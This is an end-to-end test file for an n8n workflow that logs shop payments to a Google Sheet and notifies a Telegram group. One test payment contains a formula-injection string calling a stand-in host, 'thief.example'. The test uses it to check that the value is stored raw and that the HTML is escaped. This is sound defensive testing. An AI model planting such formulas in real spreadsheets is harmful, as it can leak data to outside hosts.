import path from 'node:path';
import { itemsOf } from '../../scripts/n8n/client';
import { waitUntil } from '../../scripts/n8n/waitUntil';
import { readWorkflow } from '../../scripts/n8n/workflow';
import { publish } from '../../scripts/start/steps';
import type { Transaction } from '../sandbox';
import { startGoogleSheet, type GoogleSheet } from './support/googleSheets';
import { PUBLIC, startE2eHost, type E2eHost } from './support/n8nHost';
import { settled } from './support/payments';
import { oneRelease } from './support/releases';
import { byId } from './support/run';
import { expectTaken } from './support/triggerProofs';
import { startTelegram, type Telegram } from './support/telegram';

jest.setTimeout(400_000);

const COLUMNS = ['transactionId', 'date', 'amount', 'code', 'content', 'accountNumber', 'bank'];

describe.each(oneRelease())('Google Sheets and Telegram on the %s n8n', (name) => {
	let host: E2eHost;
	let telegram: Telegram;
	let sheet: GoogleSheet;

	beforeAll(async () => {
		telegram = await startTelegram();
		sheet = await startGoogleSheet(COLUMNS);
		// n8n's Google Sheets knows one host only, which it is led to by a proxy.
		host = await startE2eHost(name, sheet.env);
		host.sandbox.hosts.set(PUBLIC, host.instance.url);
	});

	afterAll(async () => {
		await host?.close();
		sheet?.close();
		telegram?.close();
	});

	test('shop-payment-to-sheet.json gives each payment one row, as it is, and tells the group', async () => {
		const { n8n } = host;
		const definition = await readWorkflow(
			path.join(__dirname, '../../examples/shop-payment-to-sheet.json'),
			{
				sePayOAuth2Api: host.credential,
				telegramApi: await n8n.createCredential('telegramApi', 'Bot', telegram.credential),
				googleSheetsOAuth2Api: await n8n.createCredential('googleSheetsOAuth2Api', 'Google', {
					clientId: 'n8n',
					clientSecret: 'secret',
					oauthTokenData: { access_token: 'google token', token_type: 'Bearer' },
				}),
			},
		);
		Object.assign(
			definition.nodes.find((node) => node.name === 'Write Down the Payment')!.parameters,
			{ documentId: byId(sheet.id), sheetName: { ...byId(sheet.title), mode: 'name' } },
		);
		const workflow = await n8n.saveWorkflow({
			...definition,
			nodes: [
				...definition.nodes,
				// `publish` runs it; this example has no Data Tables.
				{
					id: 'set-up',
					name: 'Set Up',
					type: 'n8n-nodes-base.manualTrigger',
					typeVersion: 1,
					position: [0, 300],
					parameters: {},
				},
			],
		});
		await publish(n8n, host.sandbox, workflow);
		const pay = (transaction_content: string, amount_in: number) =>
			host.sandbox.addTransaction({ transaction_content, amount_in });
		const executionOf = async ({ id }: Transaction) =>
			await n8n.waitUntilExecuted(workflow.id, (execution) =>
				itemsOf(execution, 'Payment Received').some((item) => item.json.id === id),
			);
		const rowOf = (payment: Transaction) => [
			String(payment.id),
			payment.transaction_date,
			payment.amount_in,
			payment.code ?? '',
			payment.transaction_content,
			payment.account_number,
			payment.bank_brand_name,
		];

		const formula = pay('=IMPORTXML("http://thief.example","//a") <b> & DH123456', 1_234_567);
		expect((await executionOf(formula)).status).toBe('success');
		telegram.refuses = 3;
		const untold = pay('tien hang', 50_000);
		const failed = await executionOf(untold);
		expect(failed.status).toBe('error');
		expect(failed.data.resultData.lastNodeExecuted).toBe('Tell the Group');
		await n8n.rest('POST', `/executions/${failed.id}/retry`, { loadWorkflow: false });
		await waitUntil('the group is told', () => telegram.messages.length === 2);
		expect(sheet.rows).toEqual([COLUMNS, rowOf(formula), rowOf(untold)]);
		expect([...sheet.inputModes]).toEqual(['RAW']);
		expect(telegram.messages).toEqual([
			{
				chat: '-1000000000000',
				text: `Nhận <b>1.234.567 đ</b> vào ${formula.bank_brand_name} ${formula.account_number} lúc ${formula.transaction_date}: =IMPORTXML("http://thief.example","//a") &lt;b> &amp; DH123456`,
			},
			expect.objectContaining({ text: expect.stringMatching(/^Nhận <b>50\.000 đ<\/b>/) }),
		]);
		const [hook] = host.sandbox.data.webhooks;
		expectTaken(await host.sandbox.deliver(hook.id, formula.id));
		await settled(host, workflow);
		await n8n.unpublish(workflow.id);
		expect(sheet.rows).toHaveLength(3);
		expect(telegram.messages).toHaveLength(2);
	});
});
